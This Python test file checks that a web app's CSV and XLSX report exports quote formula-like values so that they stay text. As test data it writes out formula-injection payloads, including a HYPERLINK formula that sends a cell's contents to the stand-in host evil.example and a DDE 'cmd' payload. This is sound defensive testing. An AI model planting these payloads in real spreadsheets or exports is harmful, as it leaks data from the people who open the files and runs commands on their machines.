"""No export runs a formula: a clerk's name, a cabinet number or a username that starts like one stays text."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from kezek.extensions import db
from kezek.models import Cabinet, User
from kezek.spreadsheet import safe_cell

NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Aigul")'
CABINET = "+1+cmd|' /C calc'!A0"


def poisoned(app, known) -> None:
    with app.app_context():
        clerk = db.session.get(User, known.clerk1)
        clerk.display_name = NAME
        db.session.scalar(select(Cabinet).where(Cabinet.office_id == known.office, Cabinet.number == "1")).number = CABINET
        db.session.commit()


def no_formula_text(value) -> bool:
    return not (isinstance(value, str) and value.lstrip()[:1] in ("=", "+", "-", "@"))


def test_the_log_csv_writes_a_formula_like_name_and_cabinet_as_text(client, auth, known, app):
    poisoned(app, known)
    auth.create("boss", "manager", "taraz")
    auth.login("boss")
    answer = client.get("/reports/log.csv?start=2026-11-23&end=2026-11-24&lang=en")
    table = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    clerks = {row[12] for row in table[1:]}
    cabinets = {row[11] for row in table[1:]}
    assert "'" + NAME in clerks and "'" + CABINET in cabinets
    assert all(no_formula_text(cell) for row in table for cell in row)


def test_the_log_xlsx_holds_no_formula(client, auth, known, app):
    poisoned(app, known)
    auth.create("boss", "manager", "taraz")
    auth.login("boss")
    answer = client.get("/reports/log.xlsx?start=2026-11-23&end=2026-11-24&lang=en")
    sheet = load_workbook(io.BytesIO(answer.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + NAME in {cell.value for cell in cells} and "'" + CABINET in {cell.value for cell in cells}
    assert all(no_formula_text(cell.value) for cell in cells)


def test_the_annex2_xlsx_holds_no_formula(client, auth, known, app):
    username = "@SUM(1+1)*cmd"
    auth.create(username, "manager", "taraz")
    auth.login(username)
    social = known.services["social_assistance"]
    saved = client.post(f"/reports/annex2?service={social}&year=2026",
                        data={"indicator": "4.1", "value": "0.4", "csrf_token": auth.token()})
    assert saved.status_code == 303
    answer = client.get(f"/reports/annex2.xlsx?service={social}&year=2026&lang=en")
    cells = [cell for row in load_workbook(io.BytesIO(answer.get_data())).active.iter_rows() for cell in row]
    assert "'" + username in {cell.value for cell in cells}
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-A1+3", "@A1", "\t=1", "\r=1", " =1+1", "＝1+1",
                                   "=cmd|' /C calc'!A0"])
def test_the_guard_quotes_what_a_spreadsheet_would_run(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+7 7262 43 45 67", "-5", "12.5", "Aigul", "", "A-001", 42, 4.5, None])
def test_the_guard_keeps_phones_numbers_and_plain_text(value):
    assert safe_cell(value) == value
